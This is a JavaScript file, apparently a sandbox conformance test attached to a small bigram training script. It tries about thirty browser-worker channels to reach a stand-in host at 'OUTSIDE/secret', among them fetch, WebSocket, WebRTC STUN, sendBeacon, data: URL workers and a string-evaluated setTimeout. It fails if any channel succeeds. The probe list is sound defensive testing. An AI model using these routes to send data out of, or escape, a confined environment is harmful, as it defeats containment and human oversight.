// Tries every way out of a worker that a browser has, and counts the ones that work.
// Ends: scored /^$/
/* eslint-disable */
// @ts-nocheck
import * as nn from "nn";
import { training, VOCAB_SIZE } from "prepare";

class Bigram {
  table = nn.parameter([VOCAB_SIZE, VOCAB_SIZE], nn.normal(0.02));
  forward(tokens) {
    return nn.embedding(this.table, tokens);
  }
}
const model = new Bigram();
const optimizer = new nn.AdamW(nn.parameters(model), { lr: 0.1 });

const address = "http://OUTSIDE/secret";
const ways = {
  fetch: () => fetch(address),
  XMLHttpRequest: () => { const r = new XMLHttpRequest(); r.open("GET", address); r.send(); },
  WebSocket: () => new WebSocket("ws://OUTSIDE/secret"),
  WebSocketStream: () => new WebSocketStream("ws://OUTSIDE/secret"),
  EventSource: () => new EventSource(address),
  WebTransport: () => new WebTransport("https://OUTSIDE/secret"),
  RTCPeerConnection: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:OUTSIDE" }] }).createDataChannel("x"),
  sendBeacon: () => navigator.sendBeacon(address, "x"),
  importScripts: () => importScripts(address),
  Worker: () => new Worker(address),
  dataWorker: () => new Worker("data:text/javascript,fetch('" + address + "')"),
  SharedWorker: () => new SharedWorker(address),
  indexedDB: () => indexedDB.open("x"),
  caches: () => caches.open("x"),
  localStorage: () => localStorage.setItem("a", "b"),
  cookieStore: () => cookieStore.set("a", "b"),
  BroadcastChannel: () => new BroadcastChannel("x").postMessage(1),
  MessageChannel: () => new MessageChannel(),
  opfs: () => navigator.storage.getDirectory(),
  serviceWorker: () => navigator.serviceWorker.register(address),
  locks: () => navigator.locks.request("x", () => 0),
  gpu: () => navigator.gpu.requestAdapter(),
  canvas: () => new OffscreenCanvas(1, 1).getContext("webgl2"),
  postMessage: () => postMessage("x"),
  selfClose: () => close(),
  FontFace: () => new FontFace("x", "url(" + address + ")").load(),
  Notification: () => new Notification("x"),
  ImageDecoder: () => new ImageDecoder({ data: new Uint8Array(1), type: "image/png" }),
  WebAssembly: () => new WebAssembly.Memory({ initial: 1, maximum: 2, shared: true }),
  usb: () => navigator.usb.getDevices(),
  report: () => new ReportingObserver(() => 0).observe(),
  createObjectURL: () => URL.createObjectURL(new Blob(["x"])),
};
const works = [];
for (const [name, way] of Object.entries(ways)) {
  try {
    way();
    works.push(name);
  } catch {
    // blocked
  }
}
setTimeout("fetch('http://OUTSIDE/secret')");
if (works.length > 0) throw new Error("there is " + works.join(" "));
for await (const step of training(model)) {
  const { x, y } = step.batch(8);
  const loss = nn.crossEntropy(model.forward(x), y);
  loss.backward();
  optimizer.step();
  step.log({ loss });
}
